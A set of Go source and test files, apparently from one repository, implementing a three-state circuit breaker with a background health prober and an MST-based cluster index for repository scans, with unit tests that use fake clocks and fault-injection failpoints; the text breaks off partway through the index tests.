	// The failpoint injects a probe failure before Check runs: the
	// backend is healthy but unreachable from the prober — the breaker
	// must stay open.
	faultinject.Enable(faultinject.BreakerProbe, faultinject.Error(errors.New("probe path down")))
	p := NewProber(10*time.Millisecond, []Probe{{
		Name:    "backend",
		Breaker: b,
		Check:   func(ctx context.Context) error { checks.Add(1); return nil },
	}})
	b.Report(errors.New("dead"))
	p.Start()
	defer p.Stop()
	time.Sleep(50 * time.Millisecond)
	if b.State() == Closed {
		t.Fatal("breaker closed despite failing probes")
	}
	if checks.Load() != 0 {
		t.Fatal("failpoint did not preempt the health check")
	}
	// Disarm: the real (healthy) check must now close the breaker.
	faultinject.Reset()
	waitFor(t, 2*time.Second, func() bool { return b.State() == Closed },
		"breaker never closed after failpoint disarmed")
}

// TestProberStopDoesNotLeak is the goroutine-leak regression test for
// the health prober: Start/Stop cycles — including a Stop that lands
// mid-probe on a slow health check — must return the process to its
// baseline goroutine count.
func TestProberStopDoesNotLeak(t *testing.T) {
	before := runtime.NumGoroutine()
	for i := 0; i < 5; i++ {
		b := New("backend", Settings{Threshold: 1, OpenInterval: time.Millisecond}, nil)
		b.Report(errors.New("dead"))
		p := NewProber(10*time.Millisecond, []Probe{{
			Name:    "backend",
			Breaker: b,
			Check: func(ctx context.Context) error {
				// A slow check: Stop must cancel it, not wait it out.
				select {
				case <-ctx.Done():
					return ctx.Err()
				case <-time.After(10 * time.Second):
					return nil
				}
			},
		}})
		p.Start()
		p.Start() // idempotent
		time.Sleep(15 * time.Millisecond)
		p.Stop()
		p.Stop() // idempotent
	}
	// Settle loop: give exiting goroutines a moment to unwind before
	// declaring a leak.
	waitFor(t, 2*time.Second, func() bool {
		runtime.GC()
		return runtime.NumGoroutine() <= before+2
	}, "prober leaked goroutines")
}

func TestProberNilSafe(t *testing.T) {
	var p *Prober
	p.Start()
	p.Stop()
}
