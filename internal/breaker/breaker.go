// Package breaker implements the per-backend circuit breaker that
// keeps a replicated shard fleet from re-paying timeouts against a
// known-dead backend. A scan that has just watched a replica fail
// learns something every future scan should benefit from: after a few
// consecutive failures the breaker opens and scans skip straight to
// the next replica, instead of each independently rediscovering the
// corpse at full timeout price. The breaker is deliberately
// three-state and time-driven so a recovered backend re-admits itself
// without operator action:
//
//   - Closed: calls flow; consecutive failures are counted, and at
//     Settings.Threshold the breaker opens.
//   - Open: calls are refused (Allow reports false) until the open
//     interval elapses. Each re-open doubles the interval up to
//     Settings.MaxOpenInterval, so a flapping backend — alive just
//     long enough to pass one probe, then dead again — is quarantined
//     for progressively longer instead of dragging every scan through
//     its next collapse.
//   - Half-open: the first Allow after the interval admits exactly one
//     probe attempt (a live scan or the background Prober); its
//     outcome decides between re-closing and re-opening.
//
// The Prober (prober.go) is the background half of re-admission: it
// periodically probes non-closed backends with their health check
// (RemoteShard.Check against /healthz), so recovery is discovered
// within one probe interval even when no scan happens to retry the
// backend. See docs/ROBUSTNESS.md for the failure-mode matrix this
// package underpins.
package breaker

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"repro/internal/telemetry"
)

// State is a breaker's position in the closed/open/half-open cycle.
type State int32

const (
	// Closed admits every call (the healthy steady state).
	Closed State = iota
	// Open refuses calls until the open interval elapses.
	Open
	// HalfOpen has admitted one probe and awaits its outcome.
	HalfOpen
)

// String returns the state's telemetry/report name.
func (s State) String() string {
	switch s {
	case Closed:
		return "closed"
	case Open:
		return "open"
	case HalfOpen:
		return "half-open"
	}
	return fmt.Sprintf("state(%d)", int32(s))
}

// ErrOpen is the refusal a caller gets from an open breaker, wrapped
// with the backend's name. It is transient by nature — the breaker
// will half-open by itself — and callers treat it like any other
// backend failure: move on to the next replica.
var ErrOpen = errors.New("breaker: circuit open")

// Settings tunes a breaker. The zero value selects the defaults; the
// struct is plain comparable data so configuration layers (the
// detector's engine key) can use == on it.
type Settings struct {
	// Threshold is the number of consecutive failures that opens the
	// breaker (default 3). Negative disables the breaker entirely:
	// Allow always admits and Report never trips.
	Threshold int
	// OpenInterval is how long the breaker stays open after the first
	// trip before admitting a probe (default 1s). Each re-open doubles
	// the previous interval.
	OpenInterval time.Duration
	// MaxOpenInterval caps the doubling (default 30s): even a
	// chronically flapping backend is re-probed this often.
	MaxOpenInterval time.Duration
	// ResetAfter is the number of consecutive successes after a
	// re-close that restores the open interval to OpenInterval (default
	// Threshold). Until then a new trip re-opens at the grown interval
	// — the flapper quarantine.
	ResetAfter int
}

// WithDefaults fills zero fields with the default tuning.
func (s Settings) WithDefaults() Settings {
	if s.Threshold == 0 {
		s.Threshold = 3
	}
	if s.OpenInterval <= 0 {
		s.OpenInterval = time.Second
	}
	if s.MaxOpenInterval <= 0 {
		s.MaxOpenInterval = 30 * time.Second
	}
	if s.ResetAfter <= 0 {
		s.ResetAfter = s.Threshold
	}
	return s
}

// Disabled reports whether the settings turn the breaker off.
func (s Settings) Disabled() bool { return s.Threshold < 0 }

// Breaker is one backend's circuit breaker. All methods are safe for
// concurrent use. The zero Breaker is not usable; construct with New.
type Breaker struct {
	name string
	set  Settings
	tel  *telemetry.Collector
	now  func() time.Time

	mu        sync.Mutex
	state     State
	failures  int           // consecutive failures while closed
	successes int           // consecutive successes since last close
	interval  time.Duration // open interval the NEXT trip will use
	openFor   time.Duration // duration of the current open period
	openedAt  time.Time     // when the breaker last opened
	opens     uint64        // cumulative closed/half-open → open trips
}

// New builds a breaker for the named backend. set is applied with
// defaults; tel (nil-is-off) receives the breaker_opens/half_opens/
// closes counters.
func New(name string, set Settings, tel *telemetry.Collector) *Breaker {
	set = set.WithDefaults()
	return &Breaker{name: name, set: set, tel: tel, now: time.Now, interval: set.OpenInterval}
}

// SetClock overrides the breaker's time source (tests drive the open
// interval with a fake clock). Not safe to call concurrently with use.
func (b *Breaker) SetClock(now func() time.Time) { b.now = now }

// Name returns the backend identity the breaker guards.
func (b *Breaker) Name() string { return b.name }

// State returns the breaker's current position, advancing an open
// breaker whose interval has elapsed to half-open is NOT done here:
// only Allow performs that transition, so State is a pure read.
func (b *Breaker) State() State {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.state
}

// Opens returns the cumulative number of times the breaker tripped
// open — the per-backend figure behind the breaker_opens counter.
func (b *Breaker) Opens() uint64 {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.opens
}

// Allow reports whether a call to the backend may proceed. Closed
// always admits. Open admits nothing until the open interval elapses;
// the first Allow after that flips to half-open and admits exactly one
// probe, refusing concurrent callers until the probe reports. Every
// admitted call must be followed by exactly one Report.
func (b *Breaker) Allow() bool {
	if b.set.Disabled() {
		return true
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case Closed:
		return true
	case Open:
		if b.now().Sub(b.openedAt) < b.openFor {
			return false
		}
		b.state = HalfOpen
		b.tel.Inc(telemetry.BreakerHalfOpens)
		return true
	default: // HalfOpen: the probe slot is taken.
		return false
	}
}

// Report records the outcome of an admitted call: a nil error is a
// success, anything else a failure. Callers must not report outcomes
// caused by their own context dying — that says nothing about the
// backend.
func (b *Breaker) Report(err error) {
	if b.set.Disabled() {
		return
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if err == nil {
		b.onSuccess()
	} else {
		b.onFailure()
	}
}

// onSuccess handles a successful call. Caller holds b.mu.
func (b *Breaker) onSuccess() {
	switch b.state {
	case HalfOpen:
		b.state = Closed
		b.failures = 0
		b.successes = 0
		b.tel.Inc(telemetry.BreakerCloses)
	case Closed:
		b.failures = 0
		if b.successes < b.set.ResetAfter {
			b.successes++
			if b.successes >= b.set.ResetAfter {
				// The backend has proven itself: forgive the flapping
				// history and restore the base quarantine interval.
				b.interval = b.set.OpenInterval
			}
		}
	}
}

// onFailure handles a failed call. Caller holds b.mu.
func (b *Breaker) onFailure() {
	switch b.state {
	case HalfOpen:
		// Failed probe: back to open for the (already grown) interval.
		b.trip()
	case Closed:
		b.successes = 0
		b.failures++
		if b.failures >= b.set.Threshold {
			b.trip()
		}
	}
}

// trip moves the breaker to open. This open period lasts the current
// interval; the interval then doubles (capped) for any subsequent
// trip, and only a sustained success streak (Settings.ResetAfter)
// restores it to the base — the flapper quarantine. Caller holds b.mu.
func (b *Breaker) trip() {
	b.state = Open
	b.openedAt = b.now()
	b.openFor = b.interval
	b.failures = 0
	b.successes = 0
	b.opens++
	b.tel.Inc(telemetry.BreakerOpens)
	if next := b.interval * 2; next <= b.set.MaxOpenInterval {
		b.interval = next
	} else {
		b.interval = b.set.MaxOpenInterval
	}
}

// ReleaseProbe hands an admitted half-open probe slot back without an
// outcome: the breaker returns to open with its timing untouched, so
// the next Allow can immediately re-admit a probe. Callers use this
// when the probe was aborted for reasons unrelated to the backend
// (prober shutdown, caller cancellation).
func (b *Breaker) ReleaseProbe() {
	if b.set.Disabled() {
		return
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.state == HalfOpen {
		b.state = Open
	}
}

// Deny returns the error an open breaker hands the caller in place of
// an attempt.
func (b *Breaker) Deny() error {
	return fmt.Errorf("%s: %w", b.name, ErrOpen)
}
