package breaker

import (
	"errors"
	"sync"
	"testing"
	"time"

	"repro/internal/telemetry"
)

// fakeClock is a manually advanced time source.
type fakeClock struct {
	mu sync.Mutex
	t  time.Time
}

func newFakeClock() *fakeClock { return &fakeClock{t: time.Unix(1000, 0)} }

func (c *fakeClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

func newTestBreaker(set Settings) (*Breaker, *fakeClock, *telemetry.Collector) {
	tel := telemetry.NewCollector()
	b := New("b", set, tel)
	clk := newFakeClock()
	b.SetClock(clk.now)
	return b, clk, tel
}

var errBoom = errors.New("boom")

func TestBreakerOpensAtThreshold(t *testing.T) {
	b, _, tel := newTestBreaker(Settings{Threshold: 3, OpenInterval: time.Second})
	for i := 0; i < 2; i++ {
		if !b.Allow() {
			t.Fatalf("failure %d: breaker closed early", i)
		}
		b.Report(errBoom)
		if b.State() != Closed {
			t.Fatalf("state after %d failures = %v, want closed", i+1, b.State())
		}
	}
	b.Report(errBoom)
	if b.State() != Open {
		t.Fatalf("state after threshold = %v, want open", b.State())
	}
	if b.Allow() {
		t.Fatal("open breaker admitted a call")
	}
	if got := tel.Counter(telemetry.BreakerOpens); got != 1 {
		t.Fatalf("breaker_opens = %d, want 1", got)
	}
	if b.Opens() != 1 {
		t.Fatalf("Opens() = %d, want 1", b.Opens())
	}
}

func TestBreakerSuccessResetsFailureCount(t *testing.T) {
	b, _, _ := newTestBreaker(Settings{Threshold: 2, OpenInterval: time.Second})
	// fail, succeed, fail, succeed... must never open.
	for i := 0; i < 10; i++ {
		b.Report(errBoom)
		b.Report(nil)
	}
	if b.State() != Closed {
		t.Fatalf("state = %v, want closed (non-consecutive failures)", b.State())
	}
}

func TestBreakerHalfOpenProbeAndClose(t *testing.T) {
	b, clk, tel := newTestBreaker(Settings{Threshold: 1, OpenInterval: time.Second})
	b.Report(errBoom)
	if b.State() != Open || b.Allow() {
		t.Fatal("breaker should be open and refusing")
	}
	clk.advance(time.Second)
	if !b.Allow() {
		t.Fatal("elapsed open interval should admit a probe")
	}
	if b.State() != HalfOpen {
		t.Fatalf("state = %v, want half-open", b.State())
	}
	if b.Allow() {
		t.Fatal("second caller stole the half-open probe slot")
	}
	b.Report(nil)
	if b.State() != Closed || !b.Allow() {
		t.Fatal("successful probe should re-close the breaker")
	}
	if got := tel.Counter(telemetry.BreakerHalfOpens); got != 1 {
		t.Fatalf("breaker_half_opens = %d, want 1", got)
	}
	if got := tel.Counter(telemetry.BreakerCloses); got != 1 {
		t.Fatalf("breaker_closes = %d, want 1", got)
	}
}

func TestBreakerOpenIntervalDoublesAndCaps(t *testing.T) {
	b, clk, _ := newTestBreaker(Settings{Threshold: 1, OpenInterval: time.Second, MaxOpenInterval: 4 * time.Second})
	// Trip, fail every probe: open periods must run 1s, 2s, 4s, 4s.
	b.Report(errBoom)
	for _, want := range []time.Duration{time.Second, 2 * time.Second, 4 * time.Second, 4 * time.Second} {
		if b.Allow() {
			t.Fatalf("open breaker admitted before %v elapsed", want)
		}
		clk.advance(want - time.Millisecond)
		if b.Allow() {
			t.Fatalf("open breaker admitted %v early", time.Millisecond)
		}
		clk.advance(time.Millisecond)
		if !b.Allow() {
			t.Fatalf("breaker refused probe after %v", want)
		}
		b.Report(errBoom) // failed probe: re-open, interval grows
	}
}

func TestBreakerFlapperQuarantineAndReset(t *testing.T) {
	set := Settings{Threshold: 1, OpenInterval: time.Second, MaxOpenInterval: time.Minute, ResetAfter: 2}
	b, clk, _ := newTestBreaker(set)

	// First trip: 1s quarantine; probe succeeds, breaker closes.
	b.Report(errBoom)
	clk.advance(time.Second)
	if !b.Allow() {
		t.Fatal("probe refused")
	}
	b.Report(nil)

	// Flap: immediate second trip must quarantine for 2s, not 1s —
	// one good probe does not forgive the history.
	b.Report(errBoom)
	clk.advance(time.Second)
	if b.Allow() {
		t.Fatal("flapping backend re-admitted at base interval")
	}
	clk.advance(time.Second)
	if !b.Allow() {
		t.Fatal("probe refused after grown interval")
	}
	b.Report(nil) // close again

	// Two consecutive successes (ResetAfter) restore the base interval.
	b.Report(nil)
	b.Report(nil)
	b.Report(errBoom)
	clk.advance(time.Second)
	if !b.Allow() {
		t.Fatal("sustained health should have reset the open interval to base")
	}
}

func TestBreakerDisabled(t *testing.T) {
	b, _, tel := newTestBreaker(Settings{Threshold: -1})
	for i := 0; i < 100; i++ {
		if !b.Allow() {
			t.Fatal("disabled breaker refused a call")
		}
		b.Report(errBoom)
	}
	if b.State() != Closed {
		t.Fatalf("disabled breaker state = %v, want closed", b.State())
	}
	if got := tel.Counter(telemetry.BreakerOpens); got != 0 {
		t.Fatalf("disabled breaker tripped %d times", got)
	}
}

func TestBreakerReleaseProbe(t *testing.T) {
	b, clk, _ := newTestBreaker(Settings{Threshold: 1, OpenInterval: time.Second})
	b.Report(errBoom)
	clk.advance(time.Second)
	if !b.Allow() {
		t.Fatal("probe refused")
	}
	b.ReleaseProbe()
	if b.State() != Open {
		t.Fatalf("state after release = %v, want open", b.State())
	}
	// The slot must be immediately re-admittable (timing untouched).
	if !b.Allow() {
		t.Fatal("released probe slot not re-admitted")
	}
	b.Report(nil)
	if b.State() != Closed {
		t.Fatal("probe after release did not close the breaker")
	}
}

func TestBreakerConcurrentUse(t *testing.T) {
	b, clk, _ := newTestBreaker(Settings{Threshold: 3, OpenInterval: time.Millisecond})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if b.Allow() {
					if i%3 == 0 {
						b.Report(errBoom)
					} else {
						b.Report(nil)
					}
				}
				if i%50 == 0 {
					clk.advance(time.Millisecond)
				}
			}
		}(g)
	}
	wg.Wait()
	_ = b.State() // must not race
}

func TestSettingsDefaults(t *testing.T) {
	s := Settings{}.WithDefaults()
	if s.Threshold != 3 || s.OpenInterval != time.Second || s.MaxOpenInterval != 30*time.Second || s.ResetAfter != 3 {
		t.Fatalf("defaults = %+v", s)
	}
	if !(Settings{Threshold: -1}).Disabled() || (Settings{}).Disabled() {
		t.Fatal("Disabled() wrong")
	}
}
