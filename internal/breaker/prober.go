package breaker

import (
	"context"
	"sync"
	"time"

	"repro/internal/faultinject"
)

// Probe pairs one backend's breaker with its health check. Check is
// typically RemoteShard.Check: alive, serving the expected slice, at
// the expected repository version — so a revived-but-stale backend
// fails its probe and stays quarantined instead of silently serving
// wrong-version matches.
type Probe struct {
	// Name identifies the backend in fault injection and reports.
	Name string
	// Breaker is the backend's circuit breaker.
	Breaker *Breaker
	// Check reports backend health; it must respect ctx.
	Check func(ctx context.Context) error
}

// Prober is the background half of breaker re-admission: every
// interval it probes each non-closed backend whose breaker admits a
// probe, and reports the outcome. A recovered backend is therefore
// re-closed within one probe interval of its open period elapsing,
// even if no scan retries it — and a flapping backend keeps failing
// its probes at the breaker's growing open intervals, not at scan
// rate. Scans themselves never wait on the prober; it only flips
// breaker state in the background.
//
// Start launches the single prober goroutine; Stop halts it and waits
// for any in-flight probe round to finish, so a stopped prober leaks
// nothing (the leak regression test pins this).
type Prober struct {
	interval time.Duration
	timeout  time.Duration
	probes   []Probe

	mu     sync.Mutex
	cancel context.CancelFunc
	done   chan struct{}
}

// NewProber builds a prober over probes, one round per interval
// (minimum 10ms; default 5s when interval <= 0). Each individual
// check is bounded by the interval so a hung backend cannot stall the
// round past its period.
func NewProber(interval time.Duration, probes []Probe) *Prober {
	if interval <= 0 {
		interval = 5 * time.Second
	}
	if interval < 10*time.Millisecond {
		interval = 10 * time.Millisecond
	}
	return &Prober{interval: interval, timeout: interval, probes: probes}
}

// Start launches the background probe loop. Starting a started prober
// is a no-op.
func (p *Prober) Start() {
	if p == nil {
		return
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.cancel != nil {
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	p.cancel = cancel
	done := make(chan struct{})
	p.done = done
	go p.loop(ctx, done)
}

// Stop halts the probe loop and waits for it to exit. Stopping a
// stopped (or never started, or nil) prober is a no-op, so defer
// chains and double-Close paths are safe.
func (p *Prober) Stop() {
	if p == nil {
		return
	}
	p.mu.Lock()
	cancel, done := p.cancel, p.done
	p.cancel, p.done = nil, nil
	p.mu.Unlock()
	if cancel == nil {
		return
	}
	cancel()
	<-done
}

// loop is the prober goroutine: one probe round per tick until
// cancelled.
func (p *Prober) loop(ctx context.Context, done chan struct{}) {
	defer close(done)
	t := time.NewTicker(p.interval)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			p.round(ctx)
		}
	}
}

// round probes every backend whose breaker is not closed and admits a
// probe right now. Closed backends are left alone: live scans already
// exercise them, and probing them too would make the prober a second
// source of load on healthy machines.
func (p *Prober) round(ctx context.Context) {
	for _, pr := range p.probes {
		if ctx.Err() != nil {
			return
		}
		if pr.Breaker.State() == Closed || !pr.Breaker.Allow() {
			continue
		}
		// The breaker is half-open and this probe owns the slot.
		err := faultinject.Fire(faultinject.BreakerProbe, pr.Name)
		if err == nil {
			cctx, cancel := context.WithTimeout(ctx, p.timeout)
			err = pr.Check(cctx)
			cancel()
		}
		if ctx.Err() != nil {
			// The prober is shutting down, so this probe's outcome (a
			// cancelled check) says nothing about the backend. Hand the
			// half-open slot back untouched instead of reporting a
			// phantom failure that would grow the quarantine interval.
			pr.Breaker.ReleaseProbe()
			return
		}
		pr.Breaker.Report(err)
	}
}
