// Package index implements the sub-linear metric repository index: a
// one-level cluster tree over repository entries, built from the
// pairwise-distance MST (reusing internal/graph's spanning-forest
// machinery, the same algorithm the paper's Algorithm 1 runs over basic
// blocks) with each cluster summarized by its medoid prototype and a
// radius. A scan scores the k prototypes first and visits clusters in
// ascending prototype-distance order; a cluster whose triangle-
// inequality estimate protoDist − radius already exceeds the running
// cutoff is a strong candidate for skipping, so most of a large
// repository is dismissed on O(1)-per-entry certificates instead of
// full DTW comparisons.
//
// The package is deliberately abstract: it never sees models or
// similarity options, only entry indices 0..n-1 and a DistFunc the
// caller provides (internal/scan supplies its memoized comparison
// kernel). That keeps the dependency direction index ← scan and makes
// the construction trivially property-testable against synthetic
// distance matrices.
//
// Soundness note (the full argument is in docs/INDEXING.md): the
// path-length-normalized DTW distance the scan engine uses is NOT a
// metric — the triangle inequality can fail by a constant factor — so
// protoDist − radius is a heuristic estimate, not a proof. Exact-mode
// scans therefore use the gate only to order work and choose
// certificate strategies; every entry actually skipped carries a sound
// per-entry lower-bound certificate from the cascade tiers. Only the
// explicit approximate mode (MaxClusters) trusts the gate alone.
package index

import (
	"fmt"
	"math"
	"sort"
	"time"

	"repro/internal/faultinject"
	"repro/internal/graph"
)

// DistFunc returns the exact distance between repository entries i and
// j. It must be deterministic for the index to be reproducible; it may
// return +Inf (e.g. comparing an empty model against a non-empty one).
type DistFunc func(i, j int) float64

// Member is one clustered repository entry.
type Member struct {
	// Entry is the repository entry index (position in the model slice
	// the index was built over).
	Entry int
	// ProtoDist is the exact distance from the cluster's medoid to this
	// member, precomputed at build time for per-member visit ordering.
	ProtoDist float64
}

// Cluster is one MST component: a medoid prototype, the non-medoid
// members in ascending entry order, and the radius covering them.
type Cluster struct {
	// Medoid is the entry index of the cluster's prototype: the member
	// minimizing the sum of distances to every other member (lowest
	// entry index on ties).
	Medoid int
	// Radius is the maximum distance from the medoid to any member
	// (0 for singleton clusters; +Inf when a member is unreachable).
	Radius float64
	// Members lists the cluster's entries excluding the medoid itself.
	Members []Member
}

// Index is an immutable cluster index over repository entries 0..N-1.
// Build and Extend return fresh values; an Index is never mutated after
// construction and is safe to share across goroutines.
type Index struct {
	// N is the number of entries covered (every entry appears in
	// exactly one cluster, as medoid or member).
	N int
	// Clusters holds the partition in ascending-medoid order.
	Clusters []Cluster
	// BuildTime is the wall time the construction (or extension) took,
	// dominated by the O(n²) pairwise distances of a full build.
	BuildTime time.Duration
	// Extended counts entries assigned incrementally by Extend since
	// the last full Build (their cluster assignment is nearest-medoid,
	// not MST-derived, so radii stay conservative but clusters drift;
	// a full rebuild re-partitions from scratch).
	Extended int
}

// DefaultClusters is the cluster-count heuristic when the caller does
// not pick one: ~sqrt(n)/2. The classic sqrt(n) balance assumes a
// prototype comparison and a member dismissal cost the same, but here
// they do not — each prototype takes a (possibly early-abandoned) DTW
// while most members die on an O(1) Kim certificate — so the
// cost-balancing point sits well below sqrt(n). Halving it keeps the
// prototype pass from dominating exactly the tight-cutoff sweeps the
// index exists for (measured on the 500-variant stress corpus:
// sqrt(n)/2 scans ~2.5x faster than sqrt(n)).
func DefaultClusters(n int) int {
	if n <= 1 {
		return 1
	}
	k := int(math.Round(math.Sqrt(float64(n)) / 2))
	if k < 1 {
		k = 1
	}
	if k > n {
		k = n
	}
	return k
}

// Build constructs the index over n entries: all pairwise distances,
// the minimum spanning tree (internal/graph's maximum spanning forest
// over negated weights), the k−1 heaviest tree edges cut, and each
// resulting component summarized by medoid and radius. clusters <= 0
// selects DefaultClusters(n). The construction is deterministic for a
// deterministic dist.
//
// The only error path is the index.build failpoint (and it is the
// reason Build returns one): callers degrade to flat scanning on
// failure rather than failing classification.
func Build(n, clusters int, dist DistFunc) (*Index, error) {
	if err := faultinject.Fire(faultinject.IndexBuild, fmt.Sprintf("%d", n)); err != nil {
		return nil, fmt.Errorf("index: build over %d entries: %w", n, err)
	}
	start := time.Now()
	if n <= 0 {
		return &Index{BuildTime: time.Since(start)}, nil
	}
	k := clusters
	if k <= 0 {
		k = DefaultClusters(n)
	}
	if k > n {
		k = n
	}

	// Pairwise distances, computed once and reused for the MST, the
	// medoid election and the radii. O(n²/2) dist calls dominate the
	// build; scans amortize it (see docs/INDEXING.md for the math).
	d := make([]float64, n*n)
	at := func(i, j int) float64 { return d[i*n+j] }
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			v := dist(i, j)
			d[i*n+j], d[j*n+i] = v, v
		}
	}

	// Minimum spanning tree via the maximum spanning forest over
	// negated weights. The complete graph is connected, so the forest
	// is a single tree with n−1 edges.
	nodes := make([]uint64, n)
	for i := range nodes {
		nodes[i] = uint64(i)
	}
	edges := make([]graph.WEdge, 0, n*(n-1)/2)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			edges = append(edges, graph.WEdge{From: uint64(i), To: uint64(j), Weight: -at(i, j)})
		}
	}
	mst := graph.MaximumSpanningForest(nodes, edges)

	// Cut the k−1 heaviest-distance tree edges (ties broken on
	// (From, To) so repeated builds cut identically), leaving k
	// components.
	sort.SliceStable(mst, func(a, b int) bool {
		if mst[a].Weight != mst[b].Weight {
			return mst[a].Weight < mst[b].Weight // most negative = largest distance first
		}
		if mst[a].From != mst[b].From {
			return mst[a].From < mst[b].From
		}
		return mst[a].To < mst[b].To
	})
	cut := k - 1
	if cut > len(mst) {
		cut = len(mst)
	}
	kept := mst[cut:]

	// Union-find over the kept edges yields the cluster membership.
	parent := make([]int, n)
	for i := range parent {
		parent[i] = i
	}
	var find func(int) int
	find = func(x int) int {
		for parent[x] != x {
			parent[x] = parent[parent[x]]
			x = parent[x]
		}
		return x
	}
	for _, e := range kept {
		a, b := find(int(e.From)), find(int(e.To))
		if a != b {
			if a > b {
				a, b = b, a
			}
			parent[b] = a // lower root wins: deterministic representatives
		}
	}
	groups := make(map[int][]int)
	for i := 0; i < n; i++ {
		r := find(i)
		groups[r] = append(groups[r], i)
	}

	ix := &Index{N: n, Clusters: make([]Cluster, 0, len(groups))}
	for _, members := range groups {
		ix.Clusters = append(ix.Clusters, summarize(members, at))
	}
	sort.Slice(ix.Clusters, func(a, b int) bool { return ix.Clusters[a].Medoid < ix.Clusters[b].Medoid })
	ix.BuildTime = time.Since(start)
	return ix, nil
}

// summarize elects the medoid of one member set (ascending entry
// indices) and computes the radius and per-member prototype distances.
func summarize(members []int, at func(i, j int) float64) Cluster {
	sort.Ints(members)
	best, bestSum := members[0], math.Inf(1)
	for _, m := range members {
		sum := 0.0
		for _, o := range members {
			if o != m {
				sum += at(m, o)
			}
		}
		// Strict less keeps the lowest entry index on ties (members are
		// ascending). An all-+Inf row still elects the first member.
		if sum < bestSum {
			best, bestSum = m, sum
		}
	}
	c := Cluster{Medoid: best, Members: make([]Member, 0, len(members)-1)}
	for _, m := range members {
		if m == best {
			continue
		}
		pd := at(best, m)
		if pd > c.Radius {
			c.Radius = pd
		}
		c.Members = append(c.Members, Member{Entry: m, ProtoDist: pd})
	}
	return c
}

// Extend assigns appended entries prev.N..n-1 to their nearest existing
// medoid (first cluster wins distance ties), growing radii as needed —
// the cheap O(k·added) incremental path behind Repository.Add's
// version bump. It returns nil when prev cannot be extended (nil, empty
// while entries exist, or shrunk below prev.N); the caller falls back
// to a full Build. n == prev.N returns prev unchanged.
func Extend(prev *Index, n int, dist DistFunc) *Index {
	if prev == nil || n < prev.N || (prev.N == 0 && n > 0) {
		return nil
	}
	if n == prev.N {
		return prev
	}
	start := time.Now()
	ix := &Index{N: n, Clusters: make([]Cluster, len(prev.Clusters)), Extended: prev.Extended + (n - prev.N)}
	for i, c := range prev.Clusters {
		ix.Clusters[i] = Cluster{Medoid: c.Medoid, Radius: c.Radius, Members: append([]Member(nil), c.Members...)}
	}
	for e := prev.N; e < n; e++ {
		bestC, bestD := 0, math.Inf(1)
		for ci := range ix.Clusters {
			if d := dist(ix.Clusters[ci].Medoid, e); d < bestD {
				bestC, bestD = ci, d
			}
		}
		c := &ix.Clusters[bestC]
		c.Members = append(c.Members, Member{Entry: e, ProtoDist: bestD})
		if bestD > c.Radius {
			c.Radius = bestD
		}
	}
	ix.BuildTime = time.Since(start)
	return ix
}

// MaxRadius returns the largest cluster radius (0 for an empty index);
// a loose global indicator of how tight the clustering is.
func (ix *Index) MaxRadius() float64 {
	r := 0.0
	for _, c := range ix.Clusters {
		if c.Radius > r {
			r = c.Radius
		}
	}
	return r
}

// Gauges reports the index shape for the telemetry "index" gauge group:
// cluster and entry counts, the largest radius in micro-units (radius ×
// 10⁶ truncated; +Inf saturates), the build time in microseconds and
// the incrementally extended entry count.
func (ix *Index) Gauges() map[string]uint64 {
	r := ix.MaxRadius()
	var rum uint64
	switch {
	case math.IsInf(r, 1):
		rum = math.MaxUint64
	case r > 0:
		rum = uint64(r * 1e6)
	}
	return map[string]uint64{
		"clusters":      uint64(len(ix.Clusters)),
		"entries":       uint64(ix.N),
		"max_radius_um": rum,
		"build_us":      uint64(ix.BuildTime.Microseconds()),
		"extended":      uint64(ix.Extended),
	}
}
