package index

import (
	"errors"
	"math"
	"math/rand"
	"reflect"
	"testing"

	"repro/internal/faultinject"
)

// lineDist places entries on a number line; |x_i − x_j| is a true
// metric with obvious clusters, so the MST cut is easy to verify by
// hand.
func lineDist(xs []float64) DistFunc {
	return func(i, j int) float64 { return math.Abs(xs[i] - xs[j]) }
}

func TestBuildPartitionsOnHeaviestEdges(t *testing.T) {
	// Three obvious groups on a line; the two largest MST edges are the
	// 2→10 and 11→20 gaps, so k=3 must cut exactly there.
	xs := []float64{0, 1, 2, 10, 11, 20}
	ix, err := Build(len(xs), 3, lineDist(xs))
	if err != nil {
		t.Fatal(err)
	}
	if len(ix.Clusters) != 3 {
		t.Fatalf("clusters = %d, want 3", len(ix.Clusters))
	}
	wantMembers := [][]int{{0, 1, 2}, {3, 4}, {5}}
	wantMedoid := []int{1, 3, 5} // medoid minimizes distance sums; ties pick the lowest entry
	wantRadius := []float64{1, 1, 0}
	for c, cl := range ix.Clusters {
		got := append([]int{cl.Medoid}, nil...)
		for _, m := range cl.Members {
			got = append(got, m.Entry)
		}
		sortInts(got)
		if !reflect.DeepEqual(got, wantMembers[c]) {
			t.Errorf("cluster %d members = %v, want %v", c, got, wantMembers[c])
		}
		if cl.Medoid != wantMedoid[c] {
			t.Errorf("cluster %d medoid = %d, want %d", c, cl.Medoid, wantMedoid[c])
		}
		if cl.Radius != wantRadius[c] {
			t.Errorf("cluster %d radius = %v, want %v", c, cl.Radius, wantRadius[c])
		}
		for _, m := range cl.Members {
			if want := math.Abs(xs[cl.Medoid] - xs[m.Entry]); m.ProtoDist != want {
				t.Errorf("cluster %d member %d protoDist = %v, want %v", c, m.Entry, m.ProtoDist, want)
			}
		}
	}
}

func sortInts(xs []int) {
	for i := 1; i < len(xs); i++ {
		for j := i; j > 0 && xs[j] < xs[j-1]; j-- {
			xs[j], xs[j-1] = xs[j-1], xs[j]
		}
	}
}

// randomDist builds a deterministic symmetric random matrix.
func randomDist(n int, seed int64) DistFunc {
	rng := rand.New(rand.NewSource(seed))
	d := make([]float64, n*n)
	for i := 0; i < n; i++ {
